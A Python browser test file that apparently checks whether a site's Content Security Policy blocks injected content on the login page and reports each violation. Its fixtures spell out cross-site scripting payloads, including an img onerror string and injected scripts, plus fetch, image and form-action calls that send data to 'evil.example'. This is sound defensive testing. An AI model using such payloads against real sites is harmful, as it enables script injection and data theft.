"""What a page's policy (accounts/headers.py) forbids whoever got something of his own into it. That no page of ours runs into it
is seen by every walk: tests/browser/walk.py counts what was forbidden as broken."""

import pytest
from playwright.sync_api import Browser

from tests.browser.walk import Walk
from tests.running import Installation

pytestmark = pytest.mark.browser
SMUGGLED = {
    "a script in the page": "const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s)",
    "a handler in an attribute": "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
    "markup written as text": "document.body.innerHTML = '<img src=x onerror=\"window.ran = 1\">'",
    "a script from another site": "const s = document.createElement('script'); s.src = 'https://evil.example/'; "
    "document.body.append(s)",
    "a style in the page": "const s = document.createElement('style'); s.textContent = 'a {}'; document.body.append(s)",
    "a picture from another site": "new Image().src = 'https://evil.example/?leak'",
    "a request to another site": "fetch('https://evil.example/?leak').catch(() => 0)",
    "a frame": "const f = document.createElement('iframe'); f.src = '/'; document.body.append(f)",
}


@pytest.mark.parametrize("how", SMUGGLED)
def test_what_is_smuggled_in_does_nothing_and_is_told(browser: Browser, installation: Installation, how: str) -> None:
    walk = Walk(browser, installation)
    walk.go("/account/login/")
    assert walk.broken == []
    walk.page.evaluate(f"() => {{ try {{ {SMUGGLED[how]} }} catch {{ }} }}")
    walk.page.wait_for_timeout(200)
    assert any("forbids" in said for said in walk.broken), how
    assert walk.page.evaluate("window.ran === undefined")


def test_a_form_of_ours_leads_nowhere_else(browser: Browser, installation: Installation) -> None:
    walk = Walk(browser, installation)
    walk.go("/account/login/")
    walk.page.evaluate("() => { const f = document.querySelector('main form'); f.action = 'https://evil.example/'; f.submit() }")
    walk.page.wait_for_timeout(200)
    assert any("form-action forbids" in said for said in walk.broken)
    assert walk.page.url.endswith("/account/login/")
